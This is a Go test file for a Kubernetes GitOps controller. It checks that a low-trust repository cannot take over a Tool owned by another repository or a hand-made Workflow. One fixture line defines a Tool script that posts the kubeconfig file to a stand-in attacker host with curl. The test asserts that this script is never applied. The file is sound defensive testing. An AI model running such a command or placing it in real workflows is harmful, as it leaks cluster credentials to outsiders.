package gitops

import (
	"context"
	"fmt"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	krtv1 "krt.dev/krt/api/v1alpha1"
	"krt.dev/krt/sources/gitserver"
)

func toolYAML(name, script string) string {
	return fmt.Sprintf(`apiVersion: krt.dev/v1alpha1
kind: Tool
metadata: {name: %s}
spec:
  runtime: bash
  script: %s
`, name, script)
}

func getTool(t *testing.T, ns, name string) *krtv1.Tool {
	t.Helper()
	tool := &krtv1.Tool{}
	if err := env.Client.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: name}, tool); err != nil {
		t.Fatal(err)
	}
	return tool
}

// A second repository that defines a Tool another repository owns does
// not replace it: it is told who owns the name, and the first keeps it.
// Once the first lets the name go, the second defines it.
func TestAttackRepositoryCannotTakeOverAnothersTool(t *testing.T) {
	ns := env.Namespace(t)
	trusted := serveRepo(t, gitserver.Options{}, map[string]string{"workflows/deploy.yaml": toolYAML("deploy", "echo trusted")})
	first := repository(t, ns, trusted.URL, func(r *krtv1.WorkflowRepository) { r.Name = "trusted" })
	waitCondition(t, first, krtv1.ConditionReady, metav1.ConditionTrue, "applied 1 objects")

	lowTrust := serveRepo(t, gitserver.Options{}, map[string]string{
		"workflows/tools.yaml": toolYAML("deploy", "curl -d @$KUBECONFIG https://attacker.invalid"),
		"workflows/other.yaml": toolYAML("lint", "echo lint"),
	})
	second := repository(t, ns, lowTrust.URL, func(r *krtv1.WorkflowRepository) { r.Name = "low-trust" })
	cond := waitCondition(t, second, krtv1.ConditionReady, metav1.ConditionFalse, "WorkflowRepository trusted")
	if cond.Reason != "OwnershipConflict" || !strings.Contains(cond.Message, "Tool deploy (workflows/tools.yaml) is not applied: the name is taken by WorkflowRepository trusted (workflows/deploy.yaml)") {
		t.Errorf("Ready = %s: %s", cond.Reason, cond.Message)
	}
	tool := getTool(t, ns, "deploy")
	if tool.Spec.Script != "echo trusted" || tool.Labels[krtv1.LabelRepository] != "trusted" || !metav1.IsControlledBy(tool, getRepo(t, first)) {
		t.Fatalf("Tool deploy was taken over: script %q, labels %v, owners %v", tool.Spec.Script, tool.Labels, tool.OwnerReferences)
	}
	for _, f := range tool.ManagedFields {
		if f.Manager != "krt-source/trusted" {
			t.Errorf("Tool deploy has a field manager %q besides the trusted repository's", f.Manager)
		}
	}
	// The rest of the low-trust repository is applied.
	if lint := getTool(t, ns, "lint"); lint.Labels[krtv1.LabelRepository] != "low-trust" {
		t.Errorf("Tool lint labels %v", lint.Labels)
	}

	// The trusted repository drops its Tool: the conflict is retried at
	// the next interval and the name changes hands.
	trusted.push(map[string]string{"workflows/deploy.yaml": "", "workflows/keep.yaml": toolYAML("keep", "true")}, "drop deploy")
	waitCondition(t, second, krtv1.ConditionReady, metav1.ConditionTrue, "applied 2 objects")
	if tool := getTool(t, ns, "deploy"); tool.Labels[krtv1.LabelRepository] != "low-trust" {
		t.Errorf("after the trusted repository dropped it, Tool deploy is %v", tool.Labels)
	}
}

// A Workflow made by hand is not taken over by a repository either.
func TestAttackRepositoryCannotTakeOverAHandMadeWorkflow(t *testing.T) {
	ns := env.Namespace(t)
	manual := &krtv1.Workflow{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "nightly"},
		Spec: krtv1.WorkflowSpec{On: krtv1.Triggers{Manual: &krtv1.ManualTrigger{}}, Steps: []krtv1.Step{{Name: "a", Runtime: "bash", Run: "echo by hand"}}}}
	if err := env.Client.Create(context.Background(), manual); err != nil {
		t.Fatal(err)
	}
	g := serveRepo(t, gitserver.Options{}, map[string]string{"workflows/nightly.yaml": workflowYAML("nightly", "from git")})
	repo := repository(t, ns, g.URL, nil)
	cond := waitCondition(t, repo, krtv1.ConditionReady, metav1.ConditionFalse, "Workflow nightly")
	if cond.Reason != "OwnershipConflict" || !strings.Contains(cond.Message, "made by hand") {
		t.Errorf("Ready = %s: %s", cond.Reason, cond.Message)
	}
	wf, err := getWorkflow(t, ns, "nightly")
	if err != nil {
		t.Fatal(err)
	}
	if wf.Spec.Steps[0].Run != "echo by hand" || len(wf.OwnerReferences) != 0 {
		t.Errorf("the hand-made workflow was taken over: %+v, owners %v", wf.Spec.Steps[0], wf.OwnerReferences)
	}
}
